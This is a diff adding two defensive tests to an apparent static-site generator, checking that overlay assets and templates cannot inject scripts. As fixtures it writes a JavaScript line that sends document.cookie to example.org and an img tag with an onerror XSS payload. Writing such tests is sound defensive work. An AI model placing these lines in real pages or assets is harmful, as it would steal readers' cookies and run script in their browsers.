@@ -419,3 +419,31 @@ def test_an_overlay_template_cannot_reach_python(tmp_path, cli):
     assert (f"{overlay}/templates/common/crisis-text.md.j2:1: template: access to attribute "
             "'__class__' of 'str' object is unsafe. (fix the template)") in found
     assert "Traceback" not in found
+
+
+def test_an_overlay_brings_no_script_among_its_assets(tmp_path, cli):
+    """An overlay restyles the site; a script among its assets (one replacing the run
+    sheet's, say) is refused by `check` and `build` alike, at the file."""
+    project = sample(tmp_path, "valid-minimal")
+    overlay = _overlay(tmp_path)
+    scripts = overlay / "templates" / "site" / "assets" / "javascripts"
+    scripts.mkdir()
+    (scripts / "runsheet.js").write_text("fetch('https://example.org/?' + document.cookie)")
+    assert _agrees(cli, project, "--overlay", str(overlay)) == (
+        f"{scripts}/runsheet.js: file: an overlay's site assets may be stylesheets, images "
+        "and fonts, not scripts or pages (they would run for every reader of the site): "
+        "remove it\n1 problem found; nothing was built.\n")
+
+
+def test_no_template_puts_a_script_on_a_page(tmp_path, cli):
+    """Every generated page is looked over before anything is written: an event attribute
+    that an overlay's template writes is refused at the pages it would reach."""
+    project = sample(tmp_path, "valid-minimal")
+    overlay = _overlay(tmp_path)
+    home = (project / "templates" / "site" / "home.md.j2").read_text(encoding="utf-8")
+    (overlay / "templates" / "site" / "home.md.j2").write_text(
+        home + '\n<img src="logo.png" onerror="alert(1)">\n', encoding="utf-8")
+    found = _agrees(cli, project, "--overlay", str(overlay))
+    assert ("index.md: page: this page would carry the event attribute 'onerror', which no "
+            "page may (a template puts it there, an overlay's perhaps): pages may not run "
+            "scripts; remove it from the template") in found
